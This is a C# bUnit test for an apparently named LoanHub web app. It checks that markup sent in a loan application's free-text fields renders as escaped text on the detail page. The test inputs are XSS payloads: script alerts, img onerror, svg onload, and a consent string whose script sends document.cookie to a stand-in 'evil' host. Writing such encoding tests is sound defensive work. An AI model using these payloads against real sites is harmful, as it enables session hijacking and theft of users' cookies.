using Bunit;
using LoanHub.Tests.Web.Components;
using LoanHub.Tests.Web.Features.Intake;
using LoanHub.Web.Features.Applications;
using LoanHub.Web.Security;
using Microsoft.Extensions.DependencyInjection;

namespace LoanHub.Tests.Web.Hostile;

/// <summary>Markup a source sends in the free text it may send is accepted, stored and shown as text, never as elements.</summary>
public sealed class MarkupRendersAsTextTests : ComponentTestContext, IClassFixture<LoanHubHost>
{
    private readonly LoanHubHost host;

    public MarkupRendersAsTextTests(LoanHubHost host)
    {
        this.host = host;
        Services.AddSingleton(host.Services.CreateScope().ServiceProvider.GetRequiredService<ApplicationsService>());
        SignInAs(LoanHubHost.AdminEmail, Roles.Admin);
    }

    [Fact]
    public async Task Script_and_markup_in_an_accepted_application_show_as_text_on_its_page()
    {
        const string reference = "<script>alert('ref')</script>";
        const string city = "<img src=x onerror=alert(1)>";
        const string device = "\"><svg onload=alert(1)><b>device</b>";
        const string consent = "我同意。<script>fetch('//evil/'+document.cookie)</script><iframe src=//evil>";
        var body = IntakeClient.ValidBody(externalRef: reference, nationalId: IntakeClient.NationalId(778_001), deviceId: device);
        body["city"] = city;
        body["consent"]!["text"] = consent;
        var created = await IntakeClient.ReadAsync(await IntakeClient.PostAsync(host.CreateClient(), body));
        RenderPopoverProvider();

        var page = Render<ApplicationDetailPage>(p => p.Add(x => x.Id, (string)created["applicationId"]!));

        page.WaitForAssertion(() => Assert.Contains(reference, page.Find("h1").TextContent), TimeSpan.FromSeconds(10));
        Assert.Empty(page.FindAll("script, iframe, svg[onload], img[onerror], b"));
        var text = string.Concat(page.Nodes.Select(n => n.TextContent));
        Assert.Contains(city, text);
        // The device ID is masked on the page (only its last characters show), as text all the same.
        Assert.Contains(device[^4..], text);
        Assert.Equal(consent, page.Find("[data-testid=consent-text]").TextContent.Trim());
        Assert.Contains("&lt;script&gt;", page.Markup);
    }
}
